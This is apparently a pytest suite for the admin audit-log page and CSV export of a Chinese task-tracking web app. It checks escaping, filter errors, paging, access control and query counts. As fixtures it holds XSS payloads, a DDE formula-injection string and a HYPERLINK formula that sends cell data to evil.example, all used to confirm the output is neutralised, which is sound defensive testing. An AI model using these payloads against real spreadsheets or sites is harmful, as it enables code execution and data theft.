"""/admin/audit and /admin/audit.csv: Chinese labels, links, escaping, bad filters, the CSV file, query count."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from urllib.parse import parse_qs, urlsplit

import pytest
import sqlalchemy as sa

from tasktrack.extensions import db
from tasktrack.models import AssignmentStatus, AuditEvent, Role
from tasktrack.services import audit, progress, units
from tasktrack.services.read.overview import unit_rows

SCRIPT = "<script>alert('x')</script>"
FORMULA = '=HYPERLINK("http://evil.example/?x="&C2,"点击查看")'


def own_assignment(today):
    return unit_rows(units.find_unit("省民政厅").id, today)[0].assignment


@pytest.fixture
def reported(seeded, make_user, now):
    """A liaison named like a formula reports with a narrative that is both a script and (later) a formula."""
    liaison = make_user(Role.LIAISON, unit="省民政厅", email="evil@example.org", name="=cmd|' /C calc'!A0")
    assignment = own_assignment(now.date())
    first = progress.submit_report(assignment, author=liaison, status=AssignmentStatus.IN_PROGRESS, percent=10,
                                   completed_on=None, narrative=SCRIPT, now=now)
    db.session.commit()
    return liaison, assignment, first


def test_the_secretariat_reads_the_trail_in_chinese(client, reported, login_as) -> None:
    _liaison, assignment, report = reported
    login_as(Role.SECRETARIAT)
    response = client.get("/admin/audit?action=progress.report")
    html = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "<h1>操作日志</h1>" in html
    assert ">操作日志</a>" in html  # the menu entry
    row = re.search(r'<tr data-event="\d+">(.*?)</tr>', html, re.S).group(1)
    assert "报送进展" in row
    assert "省民政厅" in row
    assert "evil@example.org" in row
    assert f'<a href="/assignments/{assignment.id}">进展报送 #{report.id}</a>' in row  # linked through the report
    assert "状态" in row
    assert "推进中" in row  # the status code by its Chinese name
    assert "2024-07-18 10:00:00" in row  # Shanghai time
    assert "共 1 条" in html


def test_user_text_is_escaped_and_never_altered(client, reported, login_as) -> None:
    login_as(Role.SECRETARIAT)
    html = client.get("/admin/audit?action=progress.report").get_data(as_text=True)
    assert SCRIPT not in html
    assert "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;" in html
    assert "=cmd|&#39; /C calc&#39;!A0" in html  # the name exactly as written (escaped), no CSV quote on the page


def test_before_and_after_with_markup_are_escaped(client, seeded, login_as, now) -> None:
    admin = login_as(Role.SECRETARIAT)
    unit = units.find_unit("省民政厅")
    audit.record(admin, "unit.update", unit, now=now, summary=f"修改单位 {SCRIPT}",
                 before={"name": "<b>旧</b>", "note": SCRIPT}, after={"name": "<img src=x onerror=alert(1)>"})
    db.session.commit()
    html = client.get(f"/admin/audit?object=Unit&object_id={unit.id}&action=unit.update").get_data(as_text=True)
    assert "<script>" not in html
    assert "<img src=x" not in html
    assert "<b>旧</b>" not in html
    assert "&lt;b&gt;旧&lt;/b&gt;" in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    assert f'<a href="/units/{unit.id}">单位 #{unit.id}</a>' in html


FILTER_ERRORS = [
    ("user=nobody@example.org", "没有邮箱为“nobody@example.org”的账号"),
    ("from=2024-02-30", "不是有效日期"),
    ("from=2024-07-20&to=2024-07-01", "结束日期不能早于开始日期"),
    ("unit=99999999999999999999", "单位编号 99999999999999999999 不存在"),
    ("unit=2147483648", "单位编号 2147483648 不存在"),
    ("object=Assignment&object_id=2147483648", "应为正整数"),
    ("object=Assignment&object_id=99999999999999999999", "应为正整数"),
    ("object_id=5", "请同时选择对象类型"),
]
PAGE_ERRORS = [("page=abc", "页码应为正整数"), ("page=99999999999999999999", "页码应为正整数")]


@pytest.mark.parametrize(("path", "query", "message"),
                         [("/admin/audit", q, m) for q, m in FILTER_ERRORS + PAGE_ERRORS]
                         + [("/admin/audit.csv", q, m) for q, m in FILTER_ERRORS])
def test_bad_filters_get_a_chinese_message_not_a_500(client, seeded, login_as, path, query, message) -> None:
    login_as(Role.SECRETARIAT)
    response = client.get(f"{path}?{query}")
    html = response.get_data(as_text=True)
    assert response.status_code == 400
    assert response.mimetype == "text/html"
    assert message in html
    assert "筛选条件有误" in html
    if not query.startswith("page="):
        assert 'class="error"' in html  # also on the field itself


@pytest.mark.parametrize("path", ["/admin/audit", "/admin/audit.csv"])
def test_a_control_character_in_a_filter_is_refused_before_the_page(client, seeded, login_as, path) -> None:
    """The app-wide query guard (web/params.py) answers first: a Chinese 400 naming the parameter."""
    login_as(Role.SECRETARIAT)
    response = client.get(f"{path}?user=%00")
    assert response.status_code == 400
    html = response.get_data(as_text=True)
    assert "参数 user 含有无法处理的字符" in html


def test_what_was_typed_stays_in_the_form(client, seeded, login_as) -> None:
    login_as(Role.SECRETARIAT)
    html = client.get('/admin/audit?user="><script>x</script>&from=2024-07-20&to=2024-07-01').get_data(as_text=True)
    assert 'value="&#34;&gt;&lt;script&gt;x&lt;/script&gt;"' in html
    assert 'value="2024-07-20"' in html


def test_pager_links_keep_the_filter(client, seeded, login_as, now) -> None:
    admin = login_as(Role.SECRETARIAT)
    unit = units.find_unit("省民政厅")
    for i in range(55):
        audit.record(admin, "unit.update", unit, now=now + dt.timedelta(days=1), summary=f"第 {i} 次")
    db.session.commit()
    html = client.get(f"/admin/audit?action=unit&object=Unit&object_id={unit.id}&from=2024-07-19").get_data(
        as_text=True)
    assert "第 1 / 2 页，共 55 项" in html
    link = re.search(r'<a class="btn small" href="([^"]+)">下一页</a>', html).group(1).replace("&amp;", "&")
    assert parse_qs(urlsplit(link).query) == {"page": ["2"], "action": ["unit"], "object": ["Unit"],
                                              "object_id": [str(unit.id)], "from": ["2024-07-19"]}
    second = client.get(link).get_data(as_text=True)
    assert second.count("<tr data-event=") == 5
    assert "第 4 次" in second  # the oldest five, newest first: 4, 3, 2, 1, 0
    assert "第 5 次" not in second
    csv_link = re.search(r'href="(/admin/audit\.csv[^"]*)"', html).group(1).replace("&amp;", "&")
    assert "page" not in parse_qs(urlsplit(csv_link).query)
    assert parse_qs(urlsplit(csv_link).query)["action"] == ["unit"]


def test_csv_download(client, reported, login_as, now) -> None:
    liaison, assignment, _first = reported
    progress.submit_report(assignment, author=liaison, status=AssignmentStatus.IN_PROGRESS, percent=20,
                           completed_on=None, narrative=FORMULA, now=now)
    db.session.commit()
    login_as(Role.SECRETARIAT)
    response = client.get("/admin/audit.csv?user=evil@example.org&action=progress.report")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment; ")
    assert "filename*=UTF-8''%E6%93%8D%E4%BD%9C%E6%97%A5%E5%BF%97_20240718.csv" in disposition
    data = response.get_data()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0][:5] == ["时间（北京时间）", "操作人", "操作人邮箱", "操作人单位", "操作"]
    assert len(rows) == 3
    for row in rows[1:]:
        assert row[1] == "'=cmd|' /C calc'!A0"
        assert row[4] == "报送进展"
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r\uff1d\uff0b\uff0d\uff20", cell
    assert f"进展情况：{FORMULA}" in rows[1][9].splitlines()  # the text exact, inside a cell that is safe
    assert f"进展情况：{SCRIPT}" in rows[2][9].splitlines()


def test_reading_the_trail_is_not_itself_recorded(client, reported, login_as) -> None:
    login_as(Role.SECRETARIAT)
    before = db.session.scalar(sa.select(sa.func.count()).select_from(AuditEvent))
    assert client.get("/admin/audit").status_code == 200
    assert client.get("/admin/audit.csv").status_code == 200
    assert db.session.scalar(sa.select(sa.func.count()).select_from(AuditEvent)) == before


@pytest.mark.parametrize("role", ["liaison", "observation_point", "viewer"])
def test_only_the_secretariat(client, seeded, login_as, role) -> None:
    unit = {"liaison": "省民政厅", "observation_point": "省民政厅"}.get(role)
    login_as(role, unit=unit)
    assert client.get("/admin/audit").status_code == 403
    assert client.get("/admin/audit.csv").status_code == 403
    assert "操作日志" not in client.get("/plans").get_data(as_text=True)


def _page_queries(count_queries, client) -> int:
    db.session.expire_all()
    with count_queries() as q:
        response = client.get("/admin/audit")
    assert response.status_code == 200
    return q.count


def _fill(admin, people, now, times: int) -> None:
    """Add ``times`` rounds of every kind of row a page can show, by many people of many units."""
    assignment = own_assignment(now.date())
    point_unit = units.find_unit("省民政厅")
    for i in range(times):
        person = people[i % len(people)]
        audit.record(person, "user.login", person, now=now, summary="登录")
        progress.submit_report(assignment, author=people[0], status=AssignmentStatus.IN_PROGRESS, percent=10 + i,
                               completed_on=None, narrative=f"第 {i} 次", now=now)
        audit.record(admin, "focus.reopen", type("FocusReopen", (), {"id": i + 1})(), now=now, summary="x")
        audit.record(person, "token.create", type("ApiToken", (), {"id": i + 1})(), now=now, summary="y")
        audit.record(admin, "unit.update", point_unit, now=now, summary="z")
        audit.record(None, "notification.queue", type("Notification", (), {"id": i + 1})(), now=now, summary="n")
    db.session.commit()


def test_page_queries_do_not_grow_with_the_trail(client, seeded, make_user, login_as, now, count_queries) -> None:
    admin = login_as(Role.SECRETARIAT)
    people = [make_user(Role.LIAISON, unit="省民政厅")]
    db.session.execute(sa.delete(AuditEvent))  # the seed's rows: start from a page of six
    _fill(admin, people, now, 1)
    small = _page_queries(count_queries, client)
    for i, unit in enumerate(["省教育厅", "省财政厅", "杭州市", "宁波市", "温州市"] * 4):
        people.append(make_user(Role.LIAISON, unit=unit, email=f"liaison-q{i}@example.org"))
    _fill(admin, people, now, 60)
    assert db.session.scalar(sa.select(sa.func.count()).select_from(AuditEvent)) > 300
    big = _page_queries(count_queries, client)
    assert big == small, (small, big)
